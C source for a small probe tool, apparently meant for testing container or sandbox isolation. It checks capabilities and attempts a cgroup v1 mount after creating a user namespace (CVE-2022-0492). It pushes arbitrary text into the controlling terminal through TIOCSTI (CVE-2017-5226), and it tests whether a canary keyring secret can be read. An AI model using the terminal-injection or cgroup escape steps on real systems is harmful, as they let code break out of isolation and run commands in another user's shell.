/* What root inside may try. Static, so that any image runs it.
 *
 *     probe status          its own capabilities, as /proc/self/status has them
 *     probe cgroup FOLDER   a user namespace of its own, then every hierarchy of cgroup v1 mounted on FOLDER (CVE-2022-0492)
 *     probe inject TEXT     puts TEXT and Enter into the input of its terminal (TIOCSTI, CVE-2017-5226)
 *     probe hold COMMAND…   starts COMMAND in a session that holds a secret key
 *     probe key             reads that key, if it is in its session */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

static int status(void)
{
    char line[256];
    FILE *file = fopen("/proc/self/status", "r");
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, "Cap", 3))
            fputs(line, stdout);
    return 0;
}

static int cgroup(const char *folder)
{
    printf("unshare: %s\n", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) ? strerror(errno) : "done");
    char line[256], name[64];
    FILE *file = fopen("/proc/self/cgroup", "r");
    while (file && fgets(line, sizeof line, file)) {
        if (sscanf(line, "%*d:%63[^:=]:", name) != 1)
            continue;
        int failed = mount("cgroup", folder, "cgroup", 0, name);
        printf("%s: %s\n", name, failed ? strerror(errno) : "mounted");
    }
    return 0;
}

static int inject(const char *text)
{
    const char *places[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"};
    for (unsigned i = 0; i < 5; i++) {
        int fd = open(places[i], O_RDWR | O_NOCTTY);
        int failed = fd < 0;
        for (const char *one = text; !failed && *one; one++)
            failed = ioctl(fd, TIOCSTI, one);
        if (!failed) {
            failed = ioctl(fd, TIOCSTI, "\n");
            printf("injected through %s\n", places[i]);
            return 0;
        }
    }
    printf("no terminal to inject into\n");
    return 0;
}

static int hold(char **command)
{
    /* KEYCTL_JOIN_SESSION_KEYRING; then into KEY_SPEC_SESSION_KEYRING (linux/keyctl.h). */
    if (syscall(SYS_keyctl, 1, "of-the-caller") < 0 || syscall(SYS_add_key, "user", "canary", "SECRET", 6, -3) < 0)
        perror("keyctl");
    execvp(command[0], command);
    return 127;
}

static int key(void)
{
    char text[64] = "";
    /* KEYCTL_SEARCH, KEYCTL_READ. */
    long found = syscall(SYS_keyctl, 10, -3, "user", "canary", 0);
    long length = found < 0 ? -1 : syscall(SYS_keyctl, 11, found, text, sizeof text - 1);
    printf("%s\n", length < 0 ? strerror(errno) : text);
    return 0;
}

int main(int count, char **words)
{
    if (count > 1 && !strcmp(words[1], "status"))
        return status();
    if (count > 2 && !strcmp(words[1], "cgroup"))
        return cgroup(words[2]);
    if (count > 2 && !strcmp(words[1], "hold"))
        return hold(words + 2);
    if (count > 1 && !strcmp(words[1], "key"))
        return key();
    return count > 2 ? inject(words[2]) : 2;
}
